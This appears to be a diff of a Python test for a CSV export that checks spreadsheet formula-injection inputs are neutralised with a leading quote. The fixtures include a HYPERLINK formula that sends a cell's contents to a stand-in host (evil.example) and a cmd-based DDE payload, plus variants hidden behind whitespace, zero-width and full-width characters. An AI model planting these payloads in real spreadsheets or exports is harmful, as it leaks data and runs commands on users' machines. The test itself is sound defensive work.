@@ -21,25 +21,15 @@ if TYPE_CHECKING:
 
     from pyspark.sql import SparkSession
 
-FORMULAS = {
-    '=HYPERLINK("http://evil.example/?"&A1,"bill")': """'=HYPERLINK("http://evil.example/?"&A1,"bill")""",
-    "=1+1": "'=1+1",
-    "+1-1": "'+1-1",
-    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
+BEGINNINGS = (
+    *('=HYPERLINK("http://evil.example/?"&A1,"bill")', "=1+1", "+1-1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-"),
+    *("\tplain", "\rplain", " =1+1", "\u00a0=1+1", "\u200b\ufeff=1+1"),
+    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20x"),  # full width: some spreadsheets normalise them
+)
+FORMULAS = {text: f"'{text}" for text in BEGINNINGS} | {
     "\t=1+1": "'\t'=1+1",
     "\r=1+1": "'\r'=1+1",
     "\n=1+1": "'\n'=1+1",
-    "\tplain": "'\tplain",
-    "\rplain": "'\rplain",
-    " =1+1": "' =1+1",
-    "\u00a0=1+1": "'\u00a0=1+1",
-    "\u200b\ufeff=1+1": "'\u200b\ufeff=1+1",
-    "\uff1d1+1": "'\uff1d1+1",  # full width: some spreadsheets normalise them
-    "\uff0b1": "'\uff0b1",
-    "\uff0d1": "'\uff0d1",
-    "\uff20x": "'\uff20x",
-    "-": "'-",
     # Where a semicolon or a tab ends a cell, and quotes in the middle of a line mean nothing.
     "a;=1+1": "a;'=1+1",
     "a;b; @x": "a;b;' @x",
@@ -67,10 +57,7 @@ def test_texts_are_no_formulas_and_numbers_stay_numbers(spark: SparkSession, tmp
         found = list(csv.reader(file, strict=True))
     assert found[0] == ["number", "name", "loss", "nothing"]
     wanted = [*FORMULAS.values(), *PLAIN]
-    assert [row[1] for row in found[1:]] == wanted
-    assert [row[0] for row in found[1:]] == [str(index) for index in range(len(names))]
-    assert [row[2] for row in found[1:]] == [f"{-index - 0.5}" for index in range(len(names))]
-    assert {row[3] for row in found[1:]} == {""}
+    assert found[1:] == [[str(index), name, f"{-index - 0.5}", ""] for index, name in enumerate(wanted)]
 
 
 @pytest.mark.parametrize("name", ["usage", "throttling", "recommend"])
